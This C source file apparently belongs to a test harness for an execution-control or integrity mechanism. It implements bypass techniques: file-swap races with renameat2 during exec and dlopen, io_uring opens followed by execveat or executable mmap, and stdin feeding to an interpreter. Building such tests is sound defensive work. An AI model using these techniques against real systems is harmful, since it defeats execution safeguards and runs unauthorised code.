/* SPDX-License-Identifier: Apache-2.0 */
/* Races on names, io_uring, and a file system that answers differently each time. */
#include "attack.h"
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

int serve_fuse(char **args);

#define TRIES 150
#define RACE_SECONDS 6

struct swap {
	const char *good, *evil;
	volatile int stop;
};

static void *swapper(void *arg)
{
	struct swap *s = arg;
	while (!s->stop) {
		if (syscall(SYS_renameat2, AT_FDCWD, s->good, AT_FDCWD, s->evil, 2 /* RENAME_EXCHANGE */))
			return NULL;
		sched_yield();
	}
	return NULL;
}

static int race(char **a, int library)
{
	struct swap s = { .good = a[0], .evil = a[1] };
	pthread_t t;
	time_t end = time(NULL) + RACE_SECONDS;
	if (pthread_create(&t, NULL, swapper, &s))
		return failed("pthread_create");
	for (int i = 0; i < TRIES && time(NULL) < end && !marker_there(); i++) {
		pid_t pid = fork();
		if (!pid) {
#ifndef STATIC
			if (library)
				_exit(dlopen(a[0], RTLD_NOW) ? 0 : 1);
#endif
			execl(a[0], a[0], NULL);
			_exit(errno);
		}
		waitpid(pid, NULL, 0);
	}
	s.stop = 1;
	pthread_join(t, NULL);
	return marker_there() ? 0 : EPERM;
}

static int race_exec(char **a) { return race(a, 0); }
static int race_dlopen(char **a) { return race(a, 1); }

/* Opens path by an io_uring request. flags: of io_uring_setup(2). */
static int uring_open(const char *path, unsigned flags)
{
	struct io_uring_params p = { .flags = flags };
	int ring = syscall(SYS_io_uring_setup, 1, &p);
	if (ring < 0)
		return -1;
	char *sq = mmap(NULL, p.sq_off.array + p.sq_entries * sizeof(unsigned), PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
	struct io_uring_sqe *e = mmap(NULL, p.sq_entries * sizeof(*e), PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
	char *cq = mmap(NULL, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
	if (sq == MAP_FAILED || cq == MAP_FAILED || (void *)e == MAP_FAILED)
		return -1;
	memset(e, 0, sizeof(*e));
	e->opcode = IORING_OP_OPENAT;
	e->fd = AT_FDCWD;
	e->addr = (uintptr_t)path;
	e->open_flags = O_RDONLY;
	*(unsigned *)(sq + p.sq_off.array) = 0;
	__atomic_store_n((unsigned *)(sq + p.sq_off.tail), 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS | (flags & IORING_SETUP_SQPOLL ? IORING_ENTER_SQ_WAKEUP : 0), NULL, 0) < 0)
		return -1;
	struct io_uring_cqe *c = (void *)(cq + p.cq_off.cqes);
	if (c->res < 0)
		errno = -c->res;
	return c->res < 0 ? -1 : c->res;
}

static int uring_exec(char **a)
{
	int fd = uring_open(a[0], 0);
	if (fd < 0)
		return failed("io_uring open");
	char *none[] = { NULL };
	char *argv[] = { a[0], NULL };
	syscall(SYS_execveat, fd, "", argv, none, AT_EMPTY_PATH);
	return failed("execveat");
}

static int uring_map(char **a, unsigned flags)
{
	char path[512];
	int fd = code_file(a[0], "uring.bin", path, sizeof(path));
	if (fd < 0)
		return failed("uring.bin");
	close(fd);
	fd = uring_open(path, flags);
	if (fd < 0)
		return failed("io_uring open");
	void *p = mmap(NULL, PAGE, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
	return p == MAP_FAILED ? failed("mmap") : call(p);
}

static int uring_mmap(char **a) { return uring_map(a, 0); }
static int uring_poll(char **a) { return uring_map(a, IORING_SETUP_SQPOLL); }

/* a[0]: file to put on standard input, opened through io_uring; a[1]: the interpreter. */
static int uring_stdin(char **a)
{
	int fd = uring_open(a[0], 0);
	if (fd < 0 || dup2(fd, 0) < 0)
		return failed("io_uring open");
	execl(a[1], a[1], NULL);
	return failed("exec");
}

const struct technique file_techniques[] = {
	{ "race-exec", race_exec },
	{ "race-dlopen", race_dlopen },
	{ "uring-exec", uring_exec },
	{ "uring-map", uring_mmap },
	{ "uring-poll", uring_poll },
	{ "uring-stdin", uring_stdin },
	{ "serve-fuse", serve_fuse },
	{},
};
